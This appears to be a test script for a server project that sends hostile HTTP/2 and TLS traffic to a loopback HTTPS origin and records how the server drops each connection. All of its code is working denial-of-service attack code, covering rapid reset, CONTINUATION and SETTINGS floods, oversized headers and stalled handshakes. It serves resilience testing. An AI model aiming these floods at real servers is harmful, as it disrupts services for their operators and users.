#!/usr/bin/env python3
"""Hostile HTTP/2 peers against an HTTPS origin (issue #44): each attack on its own connections,
for a bounded time, written frame by frame (h2's HPACK encoder for the header blocks, the frames
by hand, so that they can be what a well-behaved library would never send).

    h2-hostile.py https://127.0.0.1:PORT/PATH --attack NAME [--seconds 5] [--count N]

Attacks (RFC 9113 frames; the CVE each stands for):
  rapid-reset         HEADERS then RST_STREAM at once, 20,000 streams (CVE-2023-44487)
  settings-flood      100,000 SETTINGS frames, their ACKs never read
  continuation-flood  HEADERS without END_HEADERS, then CONTINUATION frames without end (CVE-2024-27316 class)
  huge-headers        a HEADERS block of 1 MB (one header, in CONTINUATION frames)
  unread-streams      10,000 requests for PATH, no byte of the answers read
  zero-window         SETTINGS_INITIAL_WINDOW_SIZE 0, then 100 requests held open
  stalled-handshake   --count connections (200) that send half a TLS ClientHello and wait
  idle-tls            --count TLS connections (1,000), handshake done, nothing sent

Prints one JSON object: the attack, connections made, frames sent, how the server ended each
connection (goaway with its error code, closed, reset, or still open when the time ran out),
and the seconds it took. Loopback only: the script refuses another host.
"""
import argparse
import concurrent.futures
import json
import select
import socket
import ssl
import struct
import sys
import time
import urllib.parse

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 6: "FRAME_SIZE_ERROR",
          7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream & 0x7FFFFFFF) + payload


def settings(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


class Connection:
    """A TLS connection that offered only h2 (ALPN), its preface sent."""

    def __init__(self, host, port, initial_settings=()):
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection((host, port), timeout=10)
        self.sock = context.wrap_socket(raw, server_hostname=host)
        if self.sock.selected_alpn_protocol() != "h2":
            raise SystemExit(f"the server chose {self.sock.selected_alpn_protocol()!r}, not h2")
        self.sock.settimeout(2)
        self.buffer = b""
        self.ended = None
        self.frames_sent = 0
        self.send(PREFACE + settings(initial_settings), frames=1)

    def send(self, data, frames=1):
        """Sends; False when the server closed, or stopped reading for 2 s (flow control)."""
        if self.ended:
            return False
        try:
            self.sock.sendall(data)
            self.frames_sent += frames
            return True
        except (socket.timeout, TimeoutError):
            return False
        except (ConnectionError, ssl.SSLError, OSError) as error:
            self.ended = self.ended or f"closed ({type(error).__name__})"
            return False

    def read(self, seconds):
        """Reads frames for up to `seconds`; notes a GOAWAY or the end of the connection."""
        deadline = time.monotonic() + seconds
        while not self.ended and time.monotonic() < deadline:
            try:
                ready = self.sock.pending() or select.select([self.sock], [], [], min(0.2, max(0, deadline - time.monotonic())))[0]
                if not ready:
                    continue
                data = self.sock.recv(65536)
            except (socket.timeout, TimeoutError, ssl.SSLWantReadError):
                continue
            except (ConnectionError, ssl.SSLError, OSError) as error:
                self.ended = f"closed ({type(error).__name__})"
                break
            if not data:
                self.ended = "closed"
                break
            self.buffer += data
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                kind, payload = self.buffer[3], self.buffer[9:9 + length]
                self.buffer = self.buffer[9 + length:]
                if kind == GOAWAY and len(payload) >= 8:
                    code = int.from_bytes(payload[4:8], "big")
                    self.ended = f"goaway {ERRORS.get(code, code)}"

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def integer(value, prefix_bits, first=0):
    """An HPACK integer (RFC 7541 §5.1) with `prefix_bits` in the first byte (its other bits `first`)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def literal(name, value):
    """A literal header field without indexing, new name, no Huffman coding (RFC 7541 §6.2.2)."""
    return b"\x00" + integer(len(name), 7) + name + integer(len(value), 7) + value


def request_block(encoder, host, path):
    return encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", host), (":path", path)])


def attack(name, host, port, path, seconds, count):
    started = time.monotonic()
    endings = []
    connections = 0
    frames = 0
    if name in ("stalled-handshake", "idle-tls"):
        def connect(_):
            raw = socket.create_connection((host, port), timeout=30)
            if name == "stalled-handshake":
                # The first bytes of a TLS record holding a ClientHello: a handshake begun, never finished.
                raw.sendall(bytes([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xFC, 0x03, 0x03]))
                return raw
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2", "http/1.1"])
            return context.wrap_socket(raw, server_hostname=host)

        # Eight at a time, so that the server's event loops all work on handshakes.
        with concurrent.futures.ThreadPoolExecutor(8) as pool:
            sockets = list(pool.map(connect, range(count)))
        connections = len(sockets)
        deadline = time.monotonic() + seconds
        open_sockets = list(sockets)
        while open_sockets and time.monotonic() < deadline:
            ready = select.select(open_sockets, [], [], 0.2)[0]
            for s in ready:
                try:
                    s.setblocking(False)
                    data = s.recv(4096)
                except (ssl.SSLWantReadError, BlockingIOError):
                    continue
                except (ConnectionError, ssl.SSLError, OSError):
                    data = b""
                if not data:
                    endings.append("closed")
                    open_sockets.remove(s)
        endings += ["open"] * len(open_sockets)
        for s in sockets:
            s.close()
        return summary(name, connections, frames, endings, started)

    c = Connection(host, port, [(4, 0)] if name == "zero-window" else ())
    connections = 1
    encoder = hpack.Encoder()
    if name == "rapid-reset":
        batch = b""
        for i in range(20000):
            stream = 2 * i + 1
            batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, request_block(encoder, host, path)) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            if i % 100 == 99:
                if not c.send(batch, frames=200):
                    break
                batch = b""
                c.read(0)
    elif name == "settings-flood":
        one = settings()
        for _ in range(1000):
            if not c.send(one * 100, frames=100):
                break
    elif name == "continuation-flood":
        c.send(frame(HEADERS, 0, 1, request_block(encoder, host, path)))
        # Literal headers without indexing, each 16 KB, for ever (20 MB at most).
        block = literal(b"x", b"a" * 16384)
        for _ in range(1280):
            if not c.send(frame(CONTINUATION, 0, 1, block)):
                break
    elif name == "huge-headers":
        block = request_block(encoder, host, path) + literal(b"x-huge", b"a" * (1 << 20))
        pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        c.send(frame(HEADERS, END_STREAM | (END_HEADERS if len(pieces) == 1 else 0), 1, pieces[0]))
        for index, piece in enumerate(pieces[1:], 1):
            if not c.send(frame(CONTINUATION, END_HEADERS if index == len(pieces) - 1 else 0, 1, piece)):
                break
    elif name == "unread-streams":
        batch = b""
        for i in range(10000):
            batch += frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, request_block(encoder, host, path))
            if i % 100 == 99:
                if not c.send(batch, frames=100):
                    break
                batch = b""
        time.sleep(seconds)  # not a byte read
    elif name == "zero-window":
        for i in range(100):
            c.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, request_block(encoder, host, path)))
    else:
        raise SystemExit(f"no attack {name!r}")
    frames = c.frames_sent
    if name != "unread-streams":
        c.read(max(0.5, seconds - (time.monotonic() - started)))
    endings.append(c.ended or "open")
    c.close()
    return summary(name, connections, frames, endings, started)


def summary(name, connections, frames, endings, started):
    counts = {}
    for ending in endings:
        counts[ending] = counts.get(ending, 0) + 1
    return {"attack": name, "connections": connections, "frames_sent": frames, "endings": counts, "seconds": round(time.monotonic() - started, 3)}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("url")
    parser.add_argument("--attack", required=True)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--count", type=int, default=0)
    args = parser.parse_args()
    url = urllib.parse.urlsplit(args.url)
    if url.hostname not in ("127.0.0.1", "::1", "localhost") or url.scheme != "https":
        raise SystemExit("h2-hostile.py attacks an https:// origin on loopback only")
    count = args.count or {"stalled-handshake": 200, "idle-tls": 1000}.get(args.attack, 1)
    result = attack(args.attack, url.hostname, url.port or 443, url.path or "/", args.seconds, count)
    print(json.dumps(result))


if __name__ == "__main__":
    sys.exit(main())
